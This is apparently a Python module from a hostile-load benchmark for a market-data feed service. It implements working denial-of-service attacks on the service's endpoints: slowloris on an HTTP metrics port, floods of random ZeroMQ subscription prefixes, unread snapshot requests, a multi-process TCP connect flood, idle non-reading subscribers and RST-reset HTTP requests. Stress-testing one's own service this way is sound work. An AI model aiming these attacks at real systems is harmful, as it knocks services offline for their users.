"""Attacks by what they hold open: unfinished HTTP requests, stored subscriptions, snapshot
replies nobody reads, raw connections that never handshake, subscribers that never read, and
HTTP connections reset mid-reply."""

from __future__ import annotations

import errno
import math
import os
import selectors
import socket
import struct
import subprocess
import threading
import time
from typing import Any

import orjson
import zmq

from feedsvc.bench.hostile.messages import push_big_ticks
from feedsvc.bench.hostile.peer import (
    FD_RESERVE,
    AttackTally,
    Budget,
    Endpoints,
    Pacer,
    raise_fd_limit,
    zmq_context,
)
from feedsvc.bench.hostile.process import attack_command, collect_attack
from feedsvc.bench.hostile.zmtp import (
    CONNECT_TIMEOUT_S,
    close_all,
    open_raw_zmtp,
    send_within,
    tcp_address,
    zmtp_request,
    zmtp_subscription,
)


def slowloris(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    connections: int = 5_000,
    trickle_interval_s: float = 2.0,
    connect_rate_per_s: float = 1_000.0,
    path: str = "/metrics",
) -> dict[str, Any]:
    """Open `connections` HTTP requests to the metrics port that never end: the request line
    and one header, then a byte of an unfinished header line every `trickle_interval_s`."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    raise_fd_limit()
    address = (endpoints.metrics_host, endpoints.metrics_port)
    head = f"GET {path} HTTP/1.1\r\nHost: {endpoints.metrics_host}\r\nX-Slow: ".encode()
    selector = selectors.DefaultSelector()
    pending: dict[socket.socket, float] = {}
    established: list[socket.socket] = []
    pacer = Pacer(connect_rate_per_s)
    next_trickle = time.monotonic() + trickle_interval_s
    try:
        while not budget.over():
            now = time.monotonic()
            # Start the connections due by now, without waiting for any to complete.
            while tally.connections + len(pending) < connections and pacer.take_if_due():
                raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                raw.setblocking(False)
                if raw.connect_ex(address) not in (0, errno.EINPROGRESS):
                    tally.error("connect")
                    raw.close()
                    continue
                pending[raw] = now
                selector.register(raw, selectors.EVENT_WRITE)
            for key, _events in selector.select(timeout=0.05):
                raw = key.fileobj  # type: ignore[assignment]
                selector.unregister(raw)
                pending.pop(raw, None)
                if raw.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    tally.error("connect")
                    raw.close()
                    continue
                try:
                    tally.bytes_sent += raw.send(head)
                except OSError:
                    tally.error("send")
                    raw.close()
                    continue
                tally.connections += 1
                established.append(raw)
            for raw, started in list(pending.items()):
                if now - started > CONNECT_TIMEOUT_S:
                    selector.unregister(raw)
                    del pending[raw]
                    raw.close()
                    tally.error("connect_timeout")
            if now >= next_trickle:
                next_trickle = now + trickle_interval_s
                still_open = []
                for raw in established:
                    try:
                        tally.bytes_sent += raw.send(b"a")
                        tally.sent += 1
                        still_open.append(raw)
                    except BlockingIOError:
                        still_open.append(raw)
                    except OSError:
                        tally.error("closed_by_server")
                        raw.close()
                established = still_open
            if tally.connections >= connections and not pending:
                budget.sleep(min(0.05, max(0.0, next_trickle - time.monotonic())))
    finally:
        selector.close()
        close_all(established)
        close_all(pending)
    tally.extra["open_at_end"] = len(established)
    return tally.as_dict()


def subscriptions(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    prefixes: int = 20_000,
    prefix_bytes: int = 1_000,
    churn_per_s: float = 2.0,
    churn_hold_s: float = 0.2,
) -> dict[str, Any]:
    """One raw SUB sends `prefixes` distinct random prefixes of `prefix_bytes` (they match
    nothing); meanwhile other SUBs connect, subscribe, and close, `churn_per_s` a second."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    context = zmq_context()
    subscriber = None
    churned = 0
    try:
        subscriber = open_raw_zmtp(endpoints.publisher, "SUB")
        tally.connections += 1
        chunk = 100
        sent = 0
        while sent < prefixes and not budget.over():
            count = min(chunk, prefixes - sent)
            # urandom: distinct prefixes that share (almost) no trie path, byte after byte.
            data = b"".join(zmtp_subscription(os.urandom(prefix_bytes)) for _ in range(count))
            written = send_within(subscriber, data, budget)
            tally.bytes_sent += written
            if written < len(data):
                break
            sent += count
        tally.sent = sent
        pacer = Pacer(churn_per_s)
        while pacer.wait_turn(budget):
            churner = context.socket(zmq.SUB)
            churner.linger = 0
            try:
                churner.subscribe(b"CHURN ")
                churner.connect(endpoints.publisher)
                budget.sleep(churn_hold_s)
            finally:
                churner.close()
            churned += 1
    except OSError as error:
        tally.error(type(error).__name__)
    finally:
        if subscriber is not None:
            subscriber.close()
        context.term()
    tally.extra["churn_connections"] = churned
    return tally.as_dict()


def snapshot_hoard(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    peers: int = 40,
    prime_symbols: int = 55,
    prime_tick_bytes: int = 1_000_000,
    prime_wait_s: float = 3.0,
) -> dict[str, Any]:
    """Make the last-value cache large (`prime_symbols` ticks of `prime_tick_bytes`, together
    under sync.max_snapshot_bytes), then `peers` raw REQs each ask for every symbol's snapshot
    and never read the reply, until the budget is over."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    raise_fd_limit()
    context = zmq_context()
    push = context.socket(zmq.PUSH)
    push.linger = 2_000
    push.sndhwm = 8
    names = [f"HOARD{index:04d}" for index in range(prime_symbols)]
    hoarders: list[socket.socket] = []
    try:
        push.connect(endpoints.ingest)
        priming = AttackTally()
        push_big_ticks(push, names, prime_tick_bytes, 0.0, budget, priming)
        tally.extra["prime_ticks"] = priming.sent
        tally.extra["prime_bytes"] = priming.bytes_sent
        primed = _wait_primed(
            context, endpoints.sync, names[-1], min(prime_wait_s, budget.remaining())
        )
        tally.extra["cache_primed"] = primed
        for index in range(peers):
            if budget.over():
                break
            request = orjson.dumps(
                {
                    "op": "snapshot",
                    "client": f"hoard{index}",
                    "marker": f"h{index}",
                    "symbols": None,
                }
            )
            try:
                hoarder = open_raw_zmtp(endpoints.sync, "REQ")
                hoarder.sendall(zmtp_request(request))
            except OSError as error:
                tally.error(type(error).__name__)
                continue
            hoarders.append(hoarder)
            tally.connections += 1
            tally.sent += 1
            tally.bytes_sent += len(request)
        budget.hold()
    finally:
        close_all(hoarders)
        push.close()
        context.term()
    return tally.as_dict()


def _wait_primed(context: zmq.Context, sync_endpoint: str, symbol: str, timeout_s: float) -> bool:
    """Whether `symbol` shows in the cache within `timeout_s` (asked over a real REQ)."""
    deadline = time.monotonic() + timeout_s
    request = orjson.dumps(
        {"op": "snapshot", "client": "primer", "marker": "p1", "symbols": [symbol]}
    )
    while time.monotonic() < deadline:
        req = context.socket(zmq.REQ)
        req.linger = 0
        try:
            req.connect(sync_endpoint)
            req.send(request)
            if req.poll(int(1000 * max(0.1, deadline - time.monotonic()))):
                reply = orjson.loads(req.recv())
                if reply.get("ok") and reply["snapshot"][symbol]["seq"] > 0:
                    return True
        finally:
            req.close()
        time.sleep(0.1)
    return False


def connect_flood(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    connections: int = 22_000,
    rate_per_s: float = 800.0,
    probe: bool = True,
    probe_s: float = 1.0,
    workers: int = 0,
) -> dict[str, Any]:
    """Open `connections` raw TCP connections to the PUB port at `rate_per_s`, send nothing,
    keep them open to the end. With `probe`, a new plain SUB then tries to receive for
    `probe_s`. More connections than this process may open go to worker processes (`workers`
    0 = as many as needed)."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    fd_budget = raise_fd_limit() - FD_RESERVE
    workers = workers or max(1, math.ceil(connections / fd_budget))
    helpers: list[subprocess.Popen[bytes]] = []
    if workers > 1:
        share = math.ceil(connections / workers)
        for _ in range(workers - 1):
            helpers.append(
                subprocess.Popen(
                    attack_command(
                        "connect_flood",
                        endpoints,
                        budget.remaining(),
                        {
                            "connections": share,
                            "rate_per_s": rate_per_s / workers,
                            "probe": False,
                            "workers": 1,
                        },
                    ),
                    stdout=subprocess.PIPE,
                )
            )
        connections -= share * (workers - 1)
        rate_per_s /= workers
    address = tcp_address(endpoints.publisher)
    opened: list[socket.socket] = []
    pacer = Pacer(rate_per_s)
    try:
        while len(opened) < connections and pacer.wait_turn(budget):
            raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            raw.setblocking(False)
            if raw.connect_ex(address) not in (0, errno.EINPROGRESS):
                tally.error("connect")
                raw.close()
                continue
            opened.append(raw)
            tally.connections += 1
        if probe:
            budget.sleep(max(0.0, budget.remaining() - probe_s - 0.2))
            tally.extra["probe_received"] = _probe_subscriber(endpoints.publisher, probe_s)
        tally.extra["established"] = sum(_is_connected(raw) for raw in opened)
        budget.hold()
    finally:
        close_all(opened)
        for helper in helpers:
            result = collect_attack(helper, timeout_s=budget.remaining() + 30)
            tally.connections += result.get("connections", 0)
            tally.extra["established"] = tally.extra.get("established", 0) + result.get(
                "established", 0
            )
            for kind, count in result.get("errors", {}).items():
                tally.errors[kind] = tally.errors.get(kind, 0) + count
    tally.extra["workers"] = workers
    return tally.as_dict()


def _is_connected(raw: socket.socket) -> bool:
    try:
        raw.getpeername()
    except OSError:
        return False
    return raw.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0


def _probe_subscriber(endpoint: str, seconds: float) -> int:
    """How many frames a new SUB of everything receives in `seconds`."""
    context = zmq_context()
    sub = context.socket(zmq.SUB)
    sub.linger = 0
    received = 0
    try:
        sub.subscribe(b"")
        sub.connect(endpoint)
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            if sub.poll(int(left * 1000) + 1):
                sub.recv()
                received += 1
    finally:
        sub.close()
        context.term()
    return received


def idle_subs(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    subscribers: int = 1_000,
    connect_rate_per_s: float = 500.0,
) -> dict[str, Any]:
    """`subscribers` raw SUBs subscribe to everything and never read, until the budget is over."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    raise_fd_limit()
    idle: list[socket.socket] = []
    pacer = Pacer(connect_rate_per_s)
    try:
        while len(idle) < subscribers and pacer.wait_turn(budget):
            try:
                subscriber = open_raw_zmtp(endpoints.publisher, "SUB")
                subscriber.sendall(zmtp_subscription(b""))
            except OSError as error:
                tally.error(type(error).__name__)
                continue
            idle.append(subscriber)
            tally.connections += 1
            tally.sent += 1
        budget.hold()
    finally:
        close_all(idle)
    return tally.as_dict()


def http_reset(
    endpoints: Endpoints,
    *,
    duration_s: float = 10.0,
    stop: threading.Event | None = None,
    requests: int = 500,
    rate_per_s: float = 50.0,
    path: str = "/metrics",
) -> dict[str, Any]:
    """Send complete HTTP requests and reset each connection right after (SO_LINGER 0)."""
    budget, tally = Budget(duration_s, stop), AttackTally()
    address = (endpoints.metrics_host, endpoints.metrics_port)
    request = f"GET {path} HTTP/1.1\r\nHost: {endpoints.metrics_host}\r\n\r\n".encode()
    reset = struct.pack("ii", 1, 0)
    pacer = Pacer(rate_per_s)
    while tally.sent < requests and pacer.wait_turn(budget):
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            raw.settimeout(CONNECT_TIMEOUT_S)
            raw.connect(address)
            tally.connections += 1
            raw.sendall(request)
            tally.sent += 1
            tally.bytes_sent += len(request)
            # Linger on with a 0 timeout: close() sends RST instead of FIN.
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
        except OSError as error:
            tally.error(type(error).__name__)
        finally:
            raw.close()
    return tally.as_dict()
